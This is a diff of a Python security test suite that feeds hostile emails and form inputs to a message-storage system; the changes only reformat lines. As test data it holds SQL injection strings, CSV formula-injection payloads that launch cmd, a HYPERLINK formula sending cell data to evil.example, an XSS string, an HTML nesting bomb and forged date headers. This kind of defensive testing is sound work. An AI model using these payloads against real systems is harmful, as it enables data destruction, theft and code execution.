@@ -228,10 +228,14 @@ def form_field(name: str, expected: str) -> Check:
 
 SQLI = "x'); DROP TABLE messages; --"
 SQLI_UNION = "' UNION SELECT body_text, 1, 1 FROM messages --"
-CSV_PAYLOADS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-                "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")')  # fmt: skip
+CSV_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+)
 XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
-TRAVERSAL_GOOD = "Please see the file."
 
 
 def _email(case_id: str, category: str, what: str, payload: Callable[[], Any],
@@ -381,7 +385,8 @@ EMAIL_CASES: list[HostileCase] = [
                   that(lambda rows: len(rows[0].references) <= 100, "at most 100"))),
     # HTML bombs
     _email("html-bomb-nesting", "HTML bombs", "100,000 nested <div>s",
-           lambda: html("html-bomb-nesting", b"<div>" * 100_000 + b"deep text" + b"</div>" * 100_000),
+           lambda: html("html-bomb-nesting",
+                        b"<div>" * 100_000 + b"deep text" + b"</div>" * 100_000),
            stored("stored; the staff copy is escaped plain text (no sanitiser blow-up)",
                   that(lambda rows: rows[0].html_sanitised.startswith("<pre>"), "escaped text"))),
     _email("html-bomb-entities", "HTML bombs",
@@ -464,12 +469,14 @@ EMAIL_CASES: list[HostileCase] = [
            stored("stored; received at the server's clock", received_at_server_clock)),
     _email("received-year-2999", "clock skew",
            "a forged Received: stamp in 2999 (deadlines would never come due)",
-           lambda: mail("received-year-2999", "Received: from x by y; Tue, 01 Jan 2999 00:00:00 +0000"),
+           lambda: mail("received-year-2999",
+                        "Received: from x by y; Tue, 01 Jan 2999 00:00:00 +0000"),
            stored("stored; the implausible stamp replaced by the server's clock",
                   received_at_server_clock)),
     _email("received-year-1900", "clock skew",
            "a forged Received: stamp in 1900 (deadlines breached at once)",
-           lambda: mail("received-year-1900", "Received: from x by y; Mon, 01 Jan 1900 00:00:00 +0000"),
+           lambda: mail("received-year-1900",
+                        "Received: from x by y; Mon, 01 Jan 1900 00:00:00 +0000"),
            stored("stored; the implausible stamp replaced by the server's clock",
                   received_at_server_clock)),
     _email("received-year-9999-west", "clock skew",
